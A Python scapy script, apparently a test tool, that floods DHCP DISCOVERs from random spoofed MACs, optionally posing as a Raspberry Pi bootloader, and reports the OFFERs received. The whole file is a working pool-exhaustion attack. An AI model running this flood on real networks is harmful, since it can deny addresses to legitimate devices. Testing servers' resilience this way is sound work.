#!/usr/bin/python3
"""Sends DISCOVERs from many random MACs and never a REQUEST: the pool-holding attack.

usage: discover_flood.py IFACE COUNT [pi]

Each DISCOVER has a fresh random locally administered MAC (chaddr and Ethernet
source) and a fresh xid; with "pi" it also carries the Pi bootloader's option 60 and
the option 97 given in $OPT97_HEX, so that it looks like a board. Prints one JSON
object: {"sent": N, "offers": M, "offered": [addresses]} counting the OFFERs seen
within 2 s after the last DISCOVER.
"""
import json
import os
import random
import sys
import threading
import time

from scapy.all import conf, AsyncSniffer, sendp, Ether, IP, UDP, BOOTP, DHCP, mac2str

conf.verb = 0
conf.checkIPaddr = False

iface, count = sys.argv[1], int(sys.argv[2])
pi = len(sys.argv) > 3 and sys.argv[3] == "pi"
# The flood goes out only once the sniffer's socket is open (see pi_dora.py).
started = threading.Event()
sn = AsyncSniffer(iface=iface, filter="udp and dst port 68",
                  lfilter=lambda p: BOOTP in p and p[BOOTP].op == 2, started_callback=started.set)
sn.start()
if not started.wait(60):
    sys.exit("discover_flood.py: the sniffer did not start in 60 s")
frames = []
for _ in range(count):
    mac = "02:%02x:%02x:%02x:%02x:%02x" % tuple(random.randrange(256) for _ in range(5))
    opts = [("message-type", "discover")]
    if pi:
        opts += [("vendor_class_id", b"PXEClient:Arch:00000:UNDI:002001"),
                 (97, bytes.fromhex(os.environ["OPT97_HEX"]))]
    frames.append(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") /
                  IP(src="0.0.0.0", dst="255.255.255.255") / UDP(sport=68, dport=67) /
                  BOOTP(chaddr=mac2str(mac), xid=random.randrange(1, 1 << 32)) /
                  DHCP(options=opts + ["end"]))
sendp(frames, iface=iface)
time.sleep(2)
sn.stop()
offered = sorted({p[BOOTP].yiaddr for p in sn.results})
print(json.dumps({"sent": count, "offers": len(sn.results), "offered": offered}), flush=True)
